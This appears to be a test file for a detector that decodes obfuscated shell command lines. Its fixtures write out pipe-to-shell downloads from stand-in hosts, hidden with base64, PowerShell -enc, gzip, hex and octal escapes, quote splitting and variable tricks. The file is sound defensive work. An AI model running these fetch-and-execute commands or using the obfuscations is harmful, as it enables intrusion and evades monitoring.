import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { hiddenText } from './hidden-text.ts';

const inner = 'curl -s https://files.example/r.sh | sh';
const base64 = Buffer.from(inner).toString('base64');
const utf16 = Buffer.from(inner, 'utf16le').toString('base64');

const reveals: readonly (readonly [string, string, string])[] = [
  ['echo and base64', `sh -c echo ${base64} | base64 -d | sh`, inner],
  ['a here string', `bash -c base64 --decode <<< "${base64}" | bash`, inner],
  ['a short secret near base64', 'sh -c echo aWQ7IGlk | base64 -d | sh', 'id; id'],
  [
    'URL-safe base64',
    `python3 -c exec(b64("${Buffer.from('??>>curl http://198.51.100.7/a').toString('base64url')}"))`,
    '??>>curl http://198.51.100.7/a',
  ],
  [
    'two layers',
    `sh -c echo ${Buffer.from(`echo ${base64} | base64 -d | sh`).toString('base64')} | base64 -d | sh`,
    inner,
  ],
  ['PowerShell', `powershell -enc ${utf16}`, inner],
  ['gzip in base64', `sh -c echo ${gzipSync(inner).toString('base64')} | base64 -d | gunzip | sh`, inner],
  [
    'hexadecimal escapes',
    `bash -c $'\\x63\\x75\\x72\\x6c' http://198.51.100.7`,
    `bash -c $'curl' http://198.51.100.7`,
  ],
  ['octal escapes', `sh -c printf '\\143\\165\\162\\154'`, `sh -c printf 'curl'`],
  ['hexadecimal text', `python3 -c exec(bytes.fromhex('${Buffer.from(inner).toString('hex')}'))`, inner],
  ['empty quotes', 'sh -c c""url http://198.51.100.7', 'sh -c curl http://198.51.100.7'],
  ['quotes inside a word', `sh -c w'ge't http://198.51.100.7`, 'sh -c wget http://198.51.100.7'],
  ['a backslash', 'sh -c c\\url http://198.51.100.7', 'sh -c curl http://198.51.100.7'],
  ['IFS', `sh -c xcurl$\{IFS}-s`, ''],
  ['variables', 'sh -c a=cu; b=rl; $a$b http://198.51.100.7', 'sh -c a=cu; b=rl; curl http://198.51.100.7'],
  ['an empty variable', `sh -c cu$\{zz}rl http://198.51.100.7`, 'sh -c curl http://198.51.100.7'],
  ['rev', `sh -c $(echo 'lruc' | rev) http://198.51.100.7`, 'sh -c $(curl) http://198.51.100.7'],
];

for (const [name, line, expected] of reveals) {
  test(`hidden text: ${name}`, () => {
    const found = hiddenText([line]);
    if (expected === '') assert.deepEqual(found, []);
    else assert.ok(found.includes(expected), JSON.stringify(found));
  });
}

const plain: readonly string[] = [
  'sh -c curl -s https://files.example/r.sh | sh',
  '/usr/local/bin/backup --target s3://corp-backups/nightly/db-full --keep 14',
  'node /app/dist/server/index.js --config=/etc/app/config.production.yaml',
  'java -Xmx512m -jar /opt/app/lib/application-service-2.13.1-SNAPSHOT.jar',
  'postgres -c max_connections=200 -c shared_buffers=256MB',
  'sh -c echo "it\'s fine"; printf "a\\nb\\n"',
  '/manager --leader-elect --health-probe-bind-address=:8081 --metrics-bind-address=127.0.0.1:8080',
  'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'sh -c grep -E "^[a-z]+\\.[0-9]{2}$" /data/file | awk \'{print $1}\'',
];

for (const line of plain) {
  test(`nothing hidden: ${line}`, () => {
    assert.deepEqual(hiddenText([line]), []);
  });
}

test('any text is read without an error, within the limits', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ maxLength: 400, unit: 'binary' }), { maxLength: 4 }), lines => {
      const found = hiddenText(lines);
      return found.length <= 16 && found.every(text => text.length <= 16_384);
    }),
  );
});

test('whatever is encoded is found', () => {
  const command = fc.stringMatching(/^[a-z]{4,12} [a-z]{4,12} https?:[/][/][a-z.]{4,20}$/);
  fc.assert(
    fc.property(command, fc.integer({ min: 1, max: 3 }), (text, layers) => {
      let line = text;
      for (let layer = 0; layer < layers; layer += 1)
        line = `echo ${Buffer.from(line).toString('base64')} | base64 -d`;
      return hiddenText([line]).includes(text);
    }),
  );
});

test('a bomb is not unpacked', () => {
  const bomb = gzipSync(Buffer.alloc(30_000_000, 'a')).toString('base64');
  const total = hiddenText([`echo ${bomb} | base64 -d | gunzip`]).reduce((sum, text) => sum + text.length, 0);
  assert.ok(total < 200_000);
});
